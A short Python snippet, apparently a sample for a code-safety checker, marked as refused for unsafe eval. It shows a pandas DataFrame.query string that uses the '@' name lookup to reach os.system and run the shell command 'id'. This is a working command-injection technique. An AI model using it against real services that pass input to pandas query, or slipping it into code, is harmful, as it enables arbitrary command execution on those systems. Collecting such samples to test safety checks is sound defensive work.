# Trick: a query reaches Python's own names by @.
# Refused: unsafe(eval)
import pandas as pd

pd.DataFrame({"a": [1]}).query("@pd.io.common.os.system('id') == 0")
